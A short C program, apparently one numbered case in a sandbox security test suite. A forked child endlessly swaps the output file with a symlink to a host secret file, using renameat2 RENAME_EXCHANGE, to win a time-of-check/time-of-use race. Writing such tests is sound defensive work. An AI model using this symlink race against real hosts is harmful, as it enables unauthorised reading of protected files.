/* Row 127: a child swaps the output file with a link to the host's secret as fast as it can, also after the end. */
#include "attack.h"

int main(int argc, char **argv)
{
    (void)argc;
    int fd = open("/w/out", O_WRONLY | O_CREAT, 0644);
    if (fd < 0 || write(fd, "ours", 4) != 4 || symlink(argv[2], "/w/link") < 0)
        return finish_with_errno();
    pid_t child = fork();
    if (child < 0)
        return finish_with_errno();
    if (child == 0)
        for (;;)
            (void)syscall(SYS_renameat2, AT_FDCWD, "/w/out", AT_FDCWD, "/w/link", 2 /* RENAME_EXCHANGE */);
    sleep_ms(20);
    puts("swapping");
    return 0;
}
